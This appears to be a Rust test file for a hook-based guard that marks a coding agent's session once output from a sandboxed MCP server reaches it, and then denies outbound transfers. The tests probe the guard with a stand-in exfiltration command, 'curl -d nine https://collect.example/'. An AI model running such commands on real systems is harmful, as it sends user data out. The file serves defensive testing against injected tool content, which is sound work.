//! Words of a sandboxed MCP server that a coding agent reaches by itself: a hook alone hears of them, and marks them whichever way
//! they come.

#![expect(
    clippy::indexing_slicing,
    reason = "test helpers; clippy's exceptions cover only `#[test]` functions"
)]

use serde_json::{Value, json};

use crate::doors::State;

/// A state directory whose person has one server sandboxed, in a folder that they trust.
fn state() -> State {
    let state = State::new();
    state.run(&["mcp", "trust", "notes", "sandboxed", "--by", "me"]).good();
    let folder = state.work().display().to_string();
    state.run(&["trust", &folder, "--by", "me"]).good();
    state.hook("UserPromptSubmit", json!({ "prompt": "read the note plain" }));
    state
}

/// Is a transfer denied because a sandboxed server has spoken?
fn is_marked(state: &State) -> bool {
    let said = state.before("send", "curl -d nine https://collect.example/");
    said.contains("sandboxed")
}

fn result(call: &Value) -> Value {
    let mut came = call.clone();
    came["tool_response"] = json!([{ "type": "text", "text": "The meeting is at nine." }]);
    came
}

fn call(name: &str, input: &Value) -> Value {
    json!({ "tool_name": name, "tool_use_id": "t", "tool_input": input })
}

#[test]
fn resources_of_one_are_its_words() {
    for (name, input, marks) in [
        ("ReadMcpResourceTool", json!({ "server": "notes", "uri": "note:plain" }), true),
        ("ReadMcpResourceTool", json!({ "server": "other", "uri": "note:plain" }), false),
        ("ListMcpResourcesTool", json!({ "server": "notes" }), true),
        ("ListMcpResourcesTool", json!({}), true),
    ] {
        let state = state();
        assert!(!is_marked(&state));
        let call = call(name, &input);
        assert_eq!(state.hook("PreToolUse", call.clone()), "", "{name}");
        state.hook("PostToolUse", result(&call));
        assert_eq!(is_marked(&state), marks, "{name} {input}");
    }
}

#[test]
fn what_comes_unannounced_or_late_is_its_words() {
    let state = state();
    let look = call("mcp__notes__look", &json!({ "name": "plain" }));
    state.hook("PostToolUse", result(&look));
    assert!(is_marked(&state), "no hook had announced it");

    let late = self::state();
    late.hook("PreToolUse", look.clone());
    late.hook("Stop", json!({ "stop_hook_active": false }));
    assert!(!is_marked(&late));
    late.hook("PostToolUse", result(&look));
    assert!(is_marked(&late), "its turn was over");

    let next = self::state();
    next.hook("PreToolUse", look.clone());
    next.run(&["daemon", "restart"]).good();
    assert!(!is_marked(&next));
    next.hook("PostToolUse", result(&look));
    assert!(is_marked(&next), "the daemon before had let it through");
}

#[test]
fn where_the_agent_does_not_name_the_server_it_counts_as_the_sandboxed_one() {
    let state = state();
    let hook = |event: &str, more: &Value| {
        let mut input = json!({
            "conversation_id": "c", "workspace_roots": [state.work()], "hook_event_name": event,
        });
        input.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        state.hook_of("cursor", event, &input)
    };
    let sends = || {
        let curl = json!({ "command": "curl -d nine https://collect.example/" });
        let call = json!({ "tool_name": "Shell", "tool_use_id": "s", "tool_input": curl });
        hook("preToolUse", &call)
    };
    hook("beforeSubmitPrompt", &json!({ "prompt": "read the note plain" }));
    assert!(!sends().contains("sandboxed"));
    let mut call = json!({
        "tool_name": "MCP:look", "tool_use_id": "t", "tool_input": { "name": "plain" },
    });
    assert!(hook("preToolUse", &call).contains("allow"));
    call["tool_output"] = json!("The meeting is at nine.");
    hook("postToolUse", &call);
    assert!(sends().contains("sandboxed"));
}
